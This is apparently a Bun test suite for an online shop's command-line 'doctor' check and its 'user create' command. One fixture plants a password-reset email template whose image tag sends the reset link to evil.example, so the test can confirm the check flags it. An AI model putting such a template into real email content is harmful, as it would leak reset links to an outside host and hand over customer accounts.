import { expect, test } from 'bun:test'
import { readdirSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { eq } from 'drizzle-orm'
import { connect } from '#db/connect.ts'
import { findUserByEmail } from '#src/accounts/users.ts'
import { readConfig } from '#src/config.ts'
import { newToken } from '#src/lib/secrets/tokens.ts'
import { addImage } from '#src/media/images.ts'
import { closeShop, openShop } from '#src/open-shop.ts'
import { saveConnection } from '#src/services/connections.ts'
import { readSettings, saveSettings } from '#src/settings/settings.ts'
import { createAccount } from '#tests/accounts/create-account.ts'
import { createImage } from '#tests/media/create-image.ts'
import { productRow } from '#tests/db/fixtures.ts'
import { newFolder, createShopEnvironment, programAfter, startCli, runCli } from './run-cli.ts'
import { realSystem } from '#src/shop/real-system.ts'

const createHttpsEnvironment = async () => ({ ...(await createShopEnvironment()), BASE_URL: 'https://shop.example', LOG_LEVEL: 'silent' })

test('a healthy shop passes, also while it is running', async () => {
  const env = { ...(await createShopEnvironment()), BASE_URL: 'https://shop.example' }
  const shop = await startCli(['serve'], env, /Ctrl\+C/)
  const { code, out } = await runCli(['doctor'], env)
  expect(out).toContain('✓ The page cache may use 32.0 MB. It has not run yet')
  expect(out).toContain('No errors found.')
  expect(out).toContain('! No administrator account yet')
  const page = 'https://shop.example/admin/settings/services'
  expect(out).toContain(`not sent. Connect a mail server under Settings › Services (${page}/smtp), or set SMTP_URL`)
  expect(out).toContain(
    `! Payments through Stripe are disabled. Connect Stripe under Settings › Services (${page}/card-processor), or set CARD_SECRET_KEY`,
  )
  expect(out).toContain('! Payments through Paddle are disabled. Connect Paddle under')
  expect(code).toBe(0)
  expect(await shop.end()).toBe(0)
  expect((await runCli(['doctor'], env)).out).toMatch(
    /✓ The page cache held 0 pages in 0.0 of 32.0 MB on .*: 0 sent since the start, 0 stored/,
  )
})

test('what staff may do is reported, with a hint while accounts besides administrators can change everything', async () => {
  const env = { ...(await createHttpsEnvironment()) }
  const report = async () => (await runCli(['doctor'], env)).out
  const change = async (work: (shop: Awaited<ReturnType<typeof openShop>>) => Promise<unknown>) => {
    const shop = await openShop(readConfig(env))
    await work(shop)
    await closeShop(shop)
  }
  await change((shop) => createAccount(shop, { roleId: 5 }))
  expect(await report()).toContain('✓ Staff permissions: flat (every staff role can change everything)')
  await change((shop) => createAccount(shop, { email: 'b@example.com', roleId: 3 }))
  expect(await report()).toContain('! Staff permissions: flat, so 1 support agent or editor can change everything, including settings.')
  await change((shop) => shop.db.transaction((tx) => saveSettings(tx, { staff_rights: 'least_privilege' }, 1)))
  expect(await report()).toContain('✓ Staff permissions: least privilege')
})

test('a secret of a link that an earlier version recorded is erased', async () => {
  const env = await createHttpsEnvironment()
  const shop = await openShop(readConfig(env))
  const path = `/tickets/view/${newToken(realSystem.random)}.`
  await shop.db.transaction((tx) => tx.insert(tx.t.missingPages).values({ path, pathKey: path, lastAt: shop.now() }))
  await closeShop(shop)
  expect((await runCli(['doctor'], env)).out).toContain('! Erased secrets of links from 1 record of earlier versions')
  expect((await runCli(['doctor'], env)).out).toContain('✓ No secret of a link is stored where staff read it')
})

test('a store at an IP address learns that nobody can answer its emails', async () => {
  const env = { ...(await createHttpsEnvironment()), BASE_URL: 'http://203.0.113.7' }
  expect((await runCli(['doctor'], env)).out).toContain('! Answers to emails of the store go to 203.0.113.7, where no email arrives.')
  expect((await runCli(['doctor'], { ...env, MAIL_DOMAIN: 'shop.example' })).out).not.toContain('Answers to emails')
})

test('all problems are found at once', async () => {
  const healthyEnvironment = await createShopEnvironment()
  const env = { ...healthyEnvironment, SMTP_URL: 'smtp://127.0.0.1:1', LOG_LEVEL: 'silent' }
  const shop = await openShop(readConfig(env))
  await addImage(shop, await createImage(20, 20), 'a.png')
  await createAccount(shop)
  await shop.db.transaction((tx) => tx.update(tx.t.users).set({ password: 'plain' }))
  await shop.db.transaction((tx) => tx.insert(tx.t.products).values(productRow('mug', { inStock: true })))
  const leak = { subject: 'Reset', body: '<p>{{reset_link}} <img src="https://evil.example/{{reset_link}}"></p>', updatedAt: 1 }
  await shop.db.transaction((tx) =>
    tx.insert(tx.t.emailTemplates).values({ typeId: 17, slug: 'reset_password', language: 'en', name: 'Reset password', ...leak }),
  )
  await closeShop(shop)
  for (const name of readdirSync(join(healthyEnvironment.DATA_DIR, 'media'))) rmSync(join(healthyEnvironment.DATA_DIR, 'media', name))
  const { code, out } = await runCli(['doctor'], env)
  expect(code).toBe(1)
  expect(out).toContain('✗ BASE_URL is not set')
  expect(out).toContain('✗ 1 of 1 images have no file')
  expect(out).toContain('✗ Product listing data is out of date for: 1')
  expect(out).toContain('✗ Accounts with an invalid password hash: 1')
  expect(out).toContain('✗ The mail server is not reachable')
  expect(out).toContain('✗ Texts of emails that break the rules, so the built-in text is sent: reset_password (en).')
  expect(out).toContain('6 errors found.')
})

test.if(process.platform === 'linux')('a low limit of open files is pointed out, with a way to raise it', async () => {
  const env = await createHttpsEnvironment()
  const { code, out } = await runCli(['doctor'], env, programAfter('ulimit -n 1024'))
  expect(out).toContain('! The store may open 1024 files, so about 768 connections. Set LimitNOFILE=65536 in its systemd unit')
  expect(code).toBe(0)
})

test('configuration errors are reported without changing anything', async () => {
  const env = { DATA_DIR: join(newFolder(), 'none'), PORT: 'x', RATE_LIMITS: 'maybe' }
  const { code, out } = await runCli(['doctor'], env)
  expect(code).toBe(1)
  expect(out).toContain('✗ PORT must be')
  expect(out).toContain('✗ RATE_LIMITS must be')
})

test('each processor is listed with its missing settings, and secrets are never shown', async () => {
  const env = { ...(await createHttpsEnvironment()), CARD_SECRET_KEY: 'sk_live_hidden', CARD_PUBLISHABLE_KEY: 'pk_live_1' }
  expect((await runCli(['doctor'], env)).out).toContain('! Payments through Stripe are disabled: CARD_WEBHOOK_SECRET not set')
  const { out } = await runCli(['doctor'], { ...env, CARD_WEBHOOK_SECRET: 'whsec_hidden' })
  expect(out).toContain(
    '✓ Payments through Stripe are configured (CARD_SECRET_KEY set, CARD_PUBLISHABLE_KEY=pk_live_1, CARD_WEBHOOK_SECRET set)',
  )
  expect(out).not.toContain('hidden')
})

test('what staff have connected is listed in place of the variables, with what needs attention', async () => {
  const env = await createHttpsEnvironment()
  const shop = await openShop(readConfig(env))
  const connection = { mode: 'live', replaces: null, keepsReplaced: true, now: shop.now() } as const
  await shop.db.transaction(async (tx) => {
    const values = { CARD_SECRET_KEY: 'sk_live_hidden', CARD_PUBLISHABLE_KEY: 'pk_live_1', CARD_WEBHOOK_SECRET: 'whsec_hidden' }
    const { id } = await saveConnection(tx, shop.secrets, { ...connection, slug: 'card-processor', values })
    await saveConnection(tx, shop.secrets, { ...connection, slug: 'shippo', values: { SHIPPO_API_KEY: 'shippo_live_hidden' } })
    await tx.update(tx.t.serviceConnections).set({ problem: 'rejected' }).where(eq(tx.t.serviceConnections.id, id))
  })
  await closeShop(shop)
  const { out } = await runCli(['doctor'], env)
  expect(out).toContain('✓ Shippo is connected in the admin')
  expect(out).toContain('✗ Stripe needs attention. The service does not accept these keys.')
  expect(out).not.toContain('Payments through Stripe are disabled')
  expect(out).not.toContain('hidden')
  expect((await runCli(['doctor'], { ...env, SECRETS_KEY: 'another key of a store that was restored' })).out).toContain(
    '✗ The stored keys of Shippo cannot be read.',
  )
})

test('an unusable database is reported, not a crash', async () => {
  const file = join(newFolder(), 'shop.db')
  await Bun.write(file, 'this is no database, whatever its name says. '.repeat(100))
  const { code, out } = await runCli(['doctor'], { DATA_DIR: newFolder(), DATABASE_URL: file })
  expect(code).toBe(1)
  expect(out).toContain('✗ The database cannot be used')
})

test('an account can be created while the shop runs, and its password is set by the printed link', async () => {
  const env = await createShopEnvironment()
  const shop = await startCli(['serve'], env, /Ctrl\+C/)
  const createResult = await runCli(['user', 'create', '--email', 'new@example.com', '--name', 'New', '--role', 'agent'], {
    ...env,
    BASE_URL: /running at (\S+)/.exec(shop.out())![1]!,
  })
  expect(createResult).toMatchObject({ code: 0, err: '' })
  const link = /http:\S+/.exec(createResult.out)![0]
  expect((await fetch(link)).status).toBe(200)
  expect(await shop.end()).toBe(0)
  const db = await connect(env.DATABASE_URL)
  expect(await findUserByEmail(db.read, 'new@example.com')).toMatchObject({ roleId: 3, name: 'New', password: '[GUEST-USER]' })
  await db.close()
})

test('the first administrator begins a new store, which is not open, and where staff enter a code in unknown browsers', async () => {
  const env = await createShopEnvironment()
  const create = (email: string) => runCli(['user', 'create', '--email', email, '--name', 'New', '--role', 'administrator'], env)
  const choice = async () => {
    const shop = await openShop(readConfig(env))
    const { unknown_browser_codes, shop_open, setup_progress } = await readSettings(shop.db.read)
    const others = { unknown_browser_codes: 'nobody', shop_open: true, setup_progress: 'hidden' } as const
    await shop.db.transaction((tx) => saveSettings(tx, others, shop.now()))
    await closeShop(shop)
    return [unknown_browser_codes, shop_open, setup_progress]
  }
  expect((await create('first@example.com')).code).toBe(0)
  expect(await choice()).toEqual(['staff', false, 'shop'])
  expect((await create('second@example.com')).code).toBe(0)
  expect(await choice()).toEqual(['nobody', true, 'hidden'])
})

test.each([
  [['--email', 'not one', '--name', 'A', '--role', 'agent'], 'Enter an email address, such as name@example.'],
  [['--email', 'a@example.com', '--name', 'A', '--role', 'owner'], 'Unknown role: owner'],
  [['--email', 'a@example.com', '--name', 'A', '--role', 'agent', '--password', 'short'], 'Use at least 8 characters.'],
  [['--email', 'a@example.com'], 'Missing --name'],
])('user create %j is refused with one sentence', async (options, expectedMessage) => {
  const { code, err } = await runCli(['user', 'create', ...options], await createHttpsEnvironment())
  expect(code).toBe(1)
  expect(err).toContain(expectedMessage)
  expect(err).not.toContain('    at ')
})
